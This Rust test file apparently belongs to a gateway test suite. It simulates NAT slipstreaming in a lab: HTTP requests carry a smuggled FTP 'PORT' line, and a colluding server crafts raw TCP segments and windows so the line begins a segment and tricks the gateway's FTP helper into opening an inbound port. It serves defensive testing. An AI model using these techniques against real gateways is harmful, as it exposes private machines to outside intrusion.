//! NAT slipstreaming: a web page has the browser send `PORT` in an HTTP request to a server that is in
//! league with it, so that the gateway opens a port of the browser's machine.

use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use super::arena::{
    ALL, Arena, Attack, Family, Helper, ONE, OUTSIDER, Pair, Result, SECRET, STRANGER, USER,
    attack, falls,
};
use testkit::lab::craft::Craft;
use testkit::lab::topology::Topology;

const PORT_LINE: &str = "PORT 10,0,0,2,30,97\r\n";

/// What a browser sends: the method is the page's own choice (`fetch` takes any token), and so is
/// the body.
fn request(method: &str, body: &str) -> String {
    format!(
        "{method} / HTTP/1.1\r\nHost: 198.51.100.2:21\r\nUser-Agent: Mozilla/5.0\r\n\
         Content-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// The server's part: it greets like FTP, and grants everything.
fn colludes(pair: &mut Pair, lines: usize) -> Result<()> {
    for _ in 0..lines {
        let line = pair.server.read()?;
        let answer = match line.get(..4).unwrap_or_default() {
            "" => continue,
            "USER" => "331 password, please\r\n",
            "PASS" => "230 welcome\r\n",
            "LIST" => "150 here it comes\r\n",
            _ => "200 fine\r\n",
        };
        pair.server.send(answer)?;
    }
    Ok(())
}

/// The browser sends these pieces, each in a segment of its own.
fn posts(arena: &Arena, greets: bool, pieces: &[&str]) -> Result {
    let service = arena.service(USER, SECRET)?;
    let mut pair = arena.pair()?;
    if greets {
        // Whoever doesn't wait for it, still gets it first.
        pair.say("220 ready\r\n")?;
    }
    for piece in pieces {
        pair.client.send(piece)?;
        colludes(&mut pair, piece.lines().count())?;
    }
    let reached = arena.reaches(OUTSIDER, SECRET, &service)?;
    Ok(falls(reached, "10.0.0.2:7777 reached"))
}

/// How the server has the `PORT` line sent in a segment that begins with it.
#[derive(Clone, Copy, PartialEq)]
enum Trick {
    /// It acknowledges only what comes before: the rest is sent again.
    Partial,
    /// It takes segments and offers a window just as long as what comes before.
    Window,
    /// The same, and the `PORT` line is lost once.
    Lost,
}

/// A server of raw packets.
fn crafted(arena: &Arena, greeting: &[u8], method: &str, trick: Trick) -> Result {
    let service = arena.service(USER, SECRET)?;
    // Another address than that of the arena's own server.
    let dial = SocketAddrV4::new(STRANGER, 21);
    let net = arena.net;
    let anybody = SocketAddrV4::new(arena.public, 0);
    let mut server = Craft::new(net, arena.outer(), dial, anybody);
    let limit = Duration::from_secs(2);
    let text = request(method, &format!("USER x\r\nPASS x\r\n{PORT_LINE}"));
    let before = text.find(PORT_LINE).expect("it is there");
    if trick != Trick::Partial {
        server.mss = u16::try_from(before).expect("short");
        server.window = server.mss;
    }
    let client = std::thread::scope(|scope| {
        let client = scope.spawn(|| {
            net.within(arena.inner(), || {
                super::arena::connect_from(SocketAddrV4::new(USER, 0), dial, limit)
            })
        });
        server.accept(greeting, limit)?;
        client.join().expect("no panic")
    })?;
    std::io::Write::write_all(&mut &client, text.as_bytes())?;
    let deadline = Instant::now() + limit;
    let first = server.take(deadline, |packet| !packet.payload.is_empty())?;
    // Only so much of it has come, the server says.
    server.heard = first.payload[..before].to_vec();
    server.ack = first
        .seq
        .wrapping_add(u32::try_from(before).expect("short"));
    server.window = 60_000;
    server.say(b"331 password, please\r\n");
    server.say(b"230 welcome\r\n");
    if trick == Trick::Lost {
        server.take(deadline, |packet| packet.payload.starts_with(b"PORT"))?;
    }
    server.hear("PORT ", before, limit)?;
    std::io::Write::write_all(&mut &client, b"LIST\r\n")?;
    server.hear("LIST", before, limit)?;
    server.say(b"200 fine\r\n200 fine\r\n200 fine\r\n200 fine\r\n150 here it comes\r\n");
    let reached = arena.reaches(STRANGER, SECRET, &service)?;
    Ok(falls(reached, "10.0.0.2:7777 reached"))
}

#[test]
fn nat_slipstreaming() {
    let mut attacks: Vec<Attack> = Vec::new();
    macro_rules! posts {
        ($($name:literal, $helper:ident, $greets:literal, $pieces:expr;)*) => {
            attacks.extend([$(attack($name, Helper::$helper, |arena| {
                    let pieces: Vec<String> = $pieces;
                    let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
                    posts(arena, $greets, &pieces)
                }),)*]);
        };
    }
    posts! {
        "POST, PORT at a line's start", Any, false,
            vec![request("POST", &format!("x\r\n{PORT_LINE}LIST\r\n"))];
        "POST, PORT at a segment's start", Falls, false,
            vec![request("POST", "xxxxxxxxxxxxxxxxxxxxx\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "POST, PORT at a segment's start, the server greets", Falls, true,
            vec![request("POST", "xxxxxxxxxxxxxxxxxxxxx\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "POST with a login in it, the server greets", Falls, true,
            vec![request("POST", "USER x\r\nPASS x\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "method USER, the server greets", Falls, true,
            vec![request("USER", "USER x\r\nPASS x\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "method NOOP, the server greets", Falls, true,
            vec![request("NOOP", "USER x\r\nPASS x\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "method PASS, the server greets", Falls, true,
            vec![request("PASS", "\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "method PORT, the server greets", Any, true,
            vec![request("PORT", "USER x\r\nPASS x\r\n"), PORT_LINE.into(), "LIST\r\n".into()];
        "a long path, method USER, the server greets", Falls, true,
            vec![
                request("USER", "PASS x\r\n").replace(" / ", &format!(" /{} ", "x".repeat(200))),
                PORT_LINE.into(),
                "LIST\r\n".into(),
            ];
    }
    Family {
        name: "NAT slipstreaming",
        topology: Topology::masqueraded_client(),
        drop_invalid: true,
        gates: ALL,
        attacks,
    }
    .fight();
}

#[test]
fn nat_slipstreaming_with_crafted_retransmissions() {
    Family {
        name: "NAT slipstreaming, a server of raw packets",
        topology: Topology::masqueraded_client(),
        drop_invalid: true,
        gates: ONE,
        attacks: vec![
            attack(
                "a retransmission that begins with PORT",
                Helper::Any,
                |arena| crafted(arena, b"", "POST", Trick::Partial),
            ),
            attack(
                "the same, greeted before the request",
                Helper::Any,
                |arena| crafted(arena, b"220 ready\r\n", "POST", Trick::Partial),
            ),
            attack("the same, method USER", Helper::Any, |arena| {
                crafted(arena, b"220 ready\r\n", "USER", Trick::Partial)
            }),
            attack(
                "MSS and window that end before PORT",
                Helper::Falls,
                |arena| crafted(arena, b"", "POST", Trick::Window),
            ),
            attack(
                "the same, greeted before the request, method USER",
                Helper::Falls,
                |arena| crafted(arena, b"220 ready\r\n", "USER", Trick::Window),
            ),
            attack(
                "the same, PORT lost once and sent again",
                Helper::Falls,
                |arena| crafted(arena, b"220 ready\r\n", "USER", Trick::Lost),
            ),
        ],
    }
    .fight();
}
